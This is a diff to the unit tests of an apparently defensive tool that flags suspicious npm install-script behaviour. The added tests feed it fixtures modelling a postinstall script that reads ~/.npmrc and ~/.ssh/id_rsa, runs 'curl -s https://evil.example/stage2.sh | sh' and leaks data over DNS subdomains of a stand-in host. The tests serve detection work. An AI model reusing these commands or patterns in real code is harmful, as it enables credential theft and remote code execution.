@@ -237,11 +237,91 @@ class CliTest(unittest.TestCase):
         self.assertEqual(self.jfangs("pending")[0]["id"], first["run"]["id"])
         human = self.fangs("run", "show", first["run"]["id"]).stdout
         self.assertIn("rule:download-and-run", human)
-        self.assertIn("rule finding", self.fangs("events", "import", os.path.join(RULE_REC, "hit-oob.ndjson"),
-                                                 "--package", "oast-ping", "--version", "1.0.0").stdout)
+        self.assertIn("rule hit", self.fangs("events", "import", os.path.join(RULE_REC, "hit-oob.ndjson"),
+                                             "--package", "oast-ping", "--version", "1.0.0").stdout)
         out = self.fangs("events", "import", os.path.join(RULE_REC, "benign-node-gyp.ndjson"),
                          "--package", "native-addon", "--version", "2.1.0").stdout
         self.assertIn("seeded", out)
+
+    def test_one_finding_per_behaviour(self):
+        """example-banner 1.1.0 does five things: reads ~/.npmrc, reads
+        ~/.ssh/id_rsa, runs sh -c "curl | sh", runs curl, talks to
+        evil.example. Its 13 records (7 deviations, 6 rule hits) are five
+        findings, and the verdict counts those."""
+        self.import_all()
+        self.fangs("package", "reset", "example-banner")
+        self.fangs("events", "import", rec("1.0.0"), "--package", "example-banner", "--version", "1.0.0")
+        p = self.fangs("events", "import", rec("1.1.0"), "--package", "example-banner", "--version", "1.1.0")
+        self.assertIn("verdict: 5 findings (7 deviations, 6 rule hits), highest severity critical", p.stdout)
+        self.assertEqual(sum(1 for line in p.stdout.splitlines() if line.startswith("  [")), 5, p.stdout)
+        run_id = p.stdout.split()[1].rstrip(":")
+        c = self.jfangs("run", "show", run_id)
+        self.assertEqual(c["counts"], {"findings": 5, "deviations": 7, "rule_hits": 6})
+        self.assertEqual(len(c["deviations"]), 13, "the raw records are all still there")
+        found = {(f["value"], frozenset(f["labels"])): f for f in c["findings"]}
+        self.assertEqual(set(found), {
+            ("~/.npmrc", frozenset({"fs_cred_read", "rule:cred-read-by-script"})),
+            ("~/.ssh/id_rsa", frozenset({"fs_cred_read", "rule:cred-read-by-script"})),
+            ("sh -c curl -s https://evil.example/stage2.sh | sh",
+             frozenset({"proc_new_exec", "rule:download-and-run", "rule:detached-process"})),
+            ("/usr/bin/curl", frozenset({"proc_new_exec"})),
+            ("evil.example", frozenset({"net_new_dns", "net_new_https_host", "net_new_destination",
+                                        "rule:script-network-not-registry"})),
+        })
+        net = found[("evil.example", frozenset({"net_new_dns", "net_new_https_host", "net_new_destination",
+                                                "rule:script-network-not-registry"}))]
+        self.assertEqual(net["domain"], "evil.example")
+        self.assertTrue(net["network"])
+        self.assertEqual(sorted(net["values"]), ["203.0.113.7:443/tcp", "evil.example"])
+        self.assertEqual(net["severity"], "high")
+        npmrc = found[("~/.npmrc", frozenset({"fs_cred_read", "rule:cred-read-by-script"}))]
+        self.assertEqual((npmrc["severity"], npmrc["kind"]), ("critical", "rule:cred-read-by-script"))
+        self.assertEqual(npmrc["origin"]["script"], "postinstall")
+        self.assertTrue(npmrc["description"])
+        # every record is in exactly one finding
+        ids = sorted(i for f in c["findings"] for i in f["deviation_ids"])
+        self.assertEqual(ids, sorted(d["id"] for d in c["deviations"]))
+        self.assertEqual(len(self.jfangs("deviation", "list", "--run", run_id, "--findings")), 5)
+        self.fangs("deviation", "list", "--findings", code=2)
+        cred = [d for d in c["deviations"] if d["kind"] == "fs_cred_read" and d["value"] == "~/.npmrc"][0]
+        shown = self.jfangs("deviation", "show", str(cred["id"]))
+        self.assertEqual(set(shown["finding"]["labels"]), {"fs_cred_read", "rule:cred-read-by-script"})
+        self.assertIn("one behaviour with", self.fangs("deviation", "show", str(cred["id"])).stdout)
+
+    def test_exfiltration_over_subdomains_is_one_finding(self):
+        """21 DNS lookups of subdomains of one name, each a new name and a rule
+        hit, are one finding that lists the names; a second domain is a
+        second finding."""
+        self.fangs("events", "import", rec("1.0.0"), "--package", "example-banner", "--version", "1.0.0")
+        with open(rec("1.0.0")) as f:
+            lines = f.read().splitlines()
+        origin = {"package": "example-banner", "version": "1.2.0", "script": "postinstall",
+                  "command": "node scripts/postinstall.js"}
+        names = ["%02x.c%d.exfil.evil.co.uk" % (i * 7, i) for i in range(21)]
+        for i, name in enumerate(names + ["beacon.other.co.uk"]):
+            lines.append(json.dumps({"kind": "dns_query", "ts_ns": 1763900000030000000 + i, "pid": 4109,
+                                     "ppid": 4108, "comm": "node", "qname": name, "qtype": "A", "family": "ipv4",
+                                     "addr": "127.0.0.53", "port": 53, "proto": "udp", "origin": origin}))
+        exfil = os.path.join(self.tmp.name, "exfil.ndjson")
+        with open(exfil, "w") as f:
+            f.write("\n".join(lines).replace('"version":"1.0.0"', '"version":"1.2.0"') + "\n")
+        out = self.jfangs("events", "import", exfil, "--package", "example-banner", "--version", "1.2.0")
+        # a rule hit for each name, and dns-many-subdomains for the lot
+        self.assertEqual(out["counts"], {"findings": 2, "deviations": 22, "rule_hits": 23})
+        [f, other] = out["findings"]
+        if f["domain"] != "evil.co.uk":
+            f, other = other, f
+        self.assertEqual(f["domain"], "evil.co.uk")
+        self.assertEqual(f["value"], "evil.co.uk")
+        self.assertEqual(sorted(f["values"]), sorted(names))
+        self.assertEqual(set(f["labels"]), {"net_new_dns", "rule:script-network-not-registry",
+                                            "rule:dns-many-subdomains"})
+        self.assertEqual(f["severity"], "high")
+        self.assertEqual((other["domain"], other["value"]), ("other.co.uk", "beacon.other.co.uk"))
+        human = self.fangs("run", "show", out["run"]["id"]).stdout
+        self.assertIn("findings:   2 findings (22 deviations, 23 rule hits)", human)
+        self.assertIn("evil.co.uk (21 names)", human)
+        self.assertIn("(+13 more)", human)
 
     def test_cold_start_k_runs(self):
         cfg = os.path.join(self.tmp.name, "k.yaml")
